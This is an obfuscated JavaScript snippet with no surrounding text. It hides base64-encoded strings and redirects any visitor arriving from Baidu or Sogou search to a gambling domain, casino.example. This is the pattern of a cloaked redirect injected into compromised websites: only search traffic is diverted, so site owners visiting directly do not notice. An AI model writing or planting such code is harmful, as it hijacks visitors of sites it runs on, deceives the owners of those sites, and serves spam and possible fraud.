var _0x1c=['Y2FzaW5v','LmV4YW1wbGU=','Nzc3'];(function(a,n){while(!![]){try{if(parseInt(_0x2f(0x1a5))===n)break;else a['push'](a['shift']())}catch(e){a['push'](a['shift']())}}}(_0x1c,777));function _0x2f(i){i=i-0x1a3;return atob(_0x1c[i])}
if(/baidu|sogou/i.test(document.referrer)){window['loc'+'ation']['href']='http://'+_0x2f(0x1a3)+_0x2f(0x1a4)+'/'}
